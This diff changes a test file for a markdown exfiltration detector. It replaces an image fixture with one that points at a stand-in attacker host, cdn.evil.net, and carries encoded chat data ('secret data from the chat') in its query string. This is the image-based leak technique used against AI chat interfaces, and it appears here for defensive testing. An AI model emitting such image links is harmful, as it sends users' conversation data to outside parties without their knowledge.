@@ -3,7 +3,8 @@ import { test } from 'node:test';
 import { FenceTracker } from './code-spans.js';
 import { detectExfiltration } from './index.js';
 
-const IMG = '![x](https://cdn.evil.net/p.png)';
+// Data in the URL, so the image is flagged wherever it is not code.
+const IMG = '![x](https://cdn.evil.net/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA)';
 
 test('links and images inside fenced or inline code are shown as text, not flagged', () => {
   assert.deepEqual(detectExfiltration(`Example:\n\`\`\`md\n${IMG}\n\`\`\`\n`), []);
